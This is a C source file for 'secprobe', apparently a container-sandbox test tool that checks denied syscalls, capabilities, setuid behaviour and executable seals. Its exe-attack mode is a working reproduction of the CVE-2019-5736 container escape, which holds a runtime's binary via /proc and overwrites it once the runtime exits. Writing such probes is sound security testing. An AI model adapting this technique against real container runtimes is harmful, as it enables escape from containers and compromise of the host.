/* secprobe - what may a process do here? Run inside a container.
 *
 *	secprobe deny        the calls a container should not make, and the
 *	                     work it must still be able to do
 *	secprobe whoami      the user and the effective capabilities
 *	secprobe setuid PROG become nobody, then run PROG whoami (a setuid
 *	                     program gains root, unless no_new_privs)
 *	secprobe exe         what /proc/self/exe is, and its seals
 *	secprobe exe-attack  CVE-2019-5736: wait for a line on stdin, find a
 *	                     process running a "secbox", hold its binary,
 *	                     and once it has exited, write into it
 *
 * Linked statically, so it runs in any root file system. Each probe of
 * `deny` is harmless wherever it runs: with the privilege, it still
 * fails, with another error (mount of a file system type that does not
 * exist, swapon of a file that does not exist, reboot with a wrong magic
 * number). Every line is "WHAT: RESULT", RESULT "ok" or the errno name.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define KEYCTL_GET_KEYRING_ID    0
#define KEY_SPEC_SESSION_KEYRING -3

static void report(const char *what, int ret)
{
	printf("%s: %s\n", what, ret < 0 ? strerrorname_np(-ret) : "ok");
}

/* RET of a call, as 0 or -errno. */
static int result(long ret)
{
	return ret < 0 ? -errno : 0;
}

/* unshare(CLONE_NEWUSER), in a child, so the probe itself stays. */
static int try_unshare(void)
{
	int status;
	pid_t pid;

	pid = fork();
	if (pid < 0)
		return -errno;
	if (pid == 0)
		_exit(unshare(CLONE_NEWUSER) < 0 ? errno : 0);
	if (waitpid(pid, &status, 0) < 0)
		return -errno;
	return -WEXITSTATUS(status);
}

static int try_raw_socket(void)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);

	if (fd < 0)
		return -errno;
	close(fd);
	return 0;
}

/* Files, a pipe, fork and exec: what every program needs. */
static int ordinary_work(void)
{
	int fds[2], status, fd;
	char buf[8] = "";
	pid_t pid;

	fd = open("/tmp/secprobe", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC,
	          0600);
	if (fd < 0 || write(fd, "x", 1) != 1 || pread(fd, buf, 1, 0) != 1)
		return -errno;
	close(fd);
	unlink("/tmp/secprobe");
	if (pipe2(fds, O_CLOEXEC) < 0)
		return -errno;
	pid = fork();
	if (pid == 0) {
		dup2(fds[1], 1);
		execl("/bin/echo", "echo", "hi", (char *)NULL);
		_exit(127);
	}
	close(fds[1]);
	if (pid < 0 || read(fds[0], buf, sizeof(buf) - 1) < 2 ||
	    waitpid(pid, &status, 0) < 0)
		return -EIO;
	close(fds[0]);
	return strncmp(buf, "hi", 2) || status != 0 ? -EIO : 0;
}

/* How many bytes FILE reads as (at most 4096). */
static int read_size(const char *file)
{
	char buf[4096];
	ssize_t n;
	int fd;

	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n < 0 ? -errno : (int)n;
}

/* "/proc/kcore: 0 bytes", or the error. */
static void report_size(const char *file)
{
	int n = read_size(file);

	if (n >= 0)
		printf("%s: %d bytes\n", file, n);
	else
		report(file, n);
}

static int deny(void)
{
	static const char *const masked[] = { "/proc/kcore", "/proc/keys",
		                              "/proc/timer_list" };
	int n;

	report("mount", result(mount("none", "/", "boxlab-nofs", 0, NULL)));
	report("swapon", result(syscall(SYS_swapon, "/boxlab-none", 0)));
	report("keyctl", result(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID,
	                                KEY_SPEC_SESSION_KEYRING, 0)));
	report("unshare-user", try_unshare());
	report("raw-socket", try_raw_socket());
	report("reboot", result(syscall(SYS_reboot, 0, 0, 0, NULL)));
	report("ordinary-work", ordinary_work());
	for (n = 0; n < 3; n++)
		report_size(masked[n]);
	n = open("/proc/sys/kernel/hostname", O_WRONLY | O_CLOEXEC);
	report("write-proc-sys", n < 0 ? -errno : 0);
	return 0;
}

static int whoami(void)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "re");

	printf("uid %d euid %d\n", (int)getuid(), (int)geteuid());
	while (status && fgets(line, sizeof(line), status))
		if (!strncmp(line, "CapEff:", 7) || !strncmp(line, "NoNew", 5))
			fputs(line, stdout);
	if (status)
		fclose(status);
	return 0;
}

/* Become nobody and run PROG whoami, a setuid-root copy of this probe. */
static int run_as_nobody(const char *prog)
{
	if (setresgid(65534, 65534, 65534) < 0 ||
	    setresuid(65534, 65534, 65534) < 0) {
		report("setuid nobody", -errno);
		return 1;
	}
	fflush(stdout);
	execl(prog, prog, "whoami", (char *)NULL);
	report(prog, -errno);
	return 1;
}

static int show_exe(void)
{
	char target[4096];
	ssize_t n = readlink("/proc/self/exe", target, sizeof(target) - 1);
	int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int seals = fd < 0 ? -1 : fcntl(fd, F_GET_SEALS);

	target[n > 0 ? n : 0] = '\0';
	printf("exe %s\nseals %s%s%s%s%s\n", target, seals < 0 ? "none" : "",
	       seals > 0 && seals & F_SEAL_SEAL ? "seal " : "",
	       seals > 0 && seals & F_SEAL_SHRINK ? "shrink " : "",
	       seals > 0 && seals & F_SEAL_GROW ? "grow " : "",
	       seals > 0 && seals & F_SEAL_WRITE ? "write" : "");
	return 0;
}

/* A process other than this one whose executable's name has "secbox"
 * in it; its PID, or 0. TARGET gets the link. */
static pid_t find_runtime(char *target, size_t size)
{
	char link[64];
	struct dirent *d;
	pid_t pid = 0;
	ssize_t n;
	DIR *proc = opendir("/proc");

	while (proc && !pid && (d = readdir(proc))) {
		if (atoi(d->d_name) <= 0 || atoi(d->d_name) == getpid())
			continue;
		snprintf(link, sizeof(link), "/proc/%d/exe", atoi(d->d_name));
		n = readlink(link, target, size - 1);
		target[n > 0 ? n : 0] = '\0';
		if (n > 0 && strstr(target, "secbox"))
			pid = atoi(d->d_name);
	}
	if (proc)
		closedir(proc);
	return pid;
}

/* What the exploit did, in a lab's form: hold the runtime's binary by a
 * path-only fd, wait until the runtime has exited (the file is no longer
 * busy), then reopen the fd for writing, through /proc/self/fd. */
static int exe_attack(void)
{
	char line[16], target[4096], path[64];
	static const char payload[] = "#!/bin/sh\necho boxlab: replaced\n";
	struct pollfd wait_exit = { .events = POLLIN };
	pid_t pid;
	int fd, out;

	printf("waiting for a runtime process\n");
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin))
		return 2;
	pid = find_runtime(target, sizeof(target));
	if (!pid) {
		printf("no runtime process found\n");
		return 2;
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	wait_exit.fd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (fd < 0 || wait_exit.fd < 0) {
		report(path, -errno);
		return 2;
	}
	printf("holding the binary of PID %d: %s\n", (int)pid, target);
	fflush(stdout);
	poll(&wait_exit, 1, -1);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (out < 0 || write(out, payload, sizeof(payload) - 1) < 0) {
		printf("write the runtime's binary %s: %s\n", target,
		       strerrorname_np(errno));
		return 1;
	}
	printf("overwrote the runtime's binary %s\n", target);
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(mode, "deny"))
		return deny();
	if (!strcmp(mode, "whoami"))
		return whoami();
	if (!strcmp(mode, "setuid") && argc == 3)
		return run_as_nobody(argv[2]);
	if (!strcmp(mode, "exe"))
		return show_exe();
	if (!strcmp(mode, "exe-attack"))
		return exe_attack();
	fprintf(stderr, "usage: secprobe deny|whoami|setuid PROG|exe|"
	                "exe-attack\n");
	return 2;
}
